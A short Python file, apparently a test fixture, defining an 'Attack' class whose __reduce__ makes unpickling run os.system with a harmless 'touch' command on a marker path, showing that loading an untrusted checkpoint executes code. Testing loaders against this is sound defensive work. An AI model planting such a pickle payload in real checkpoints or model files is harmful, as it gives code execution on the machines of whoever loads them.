"""A checkpoint that runs code when it is unpickled."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any


class Attack:
    """Runs a command where a plain unpickler would load it."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (f"touch {self.marker}",)
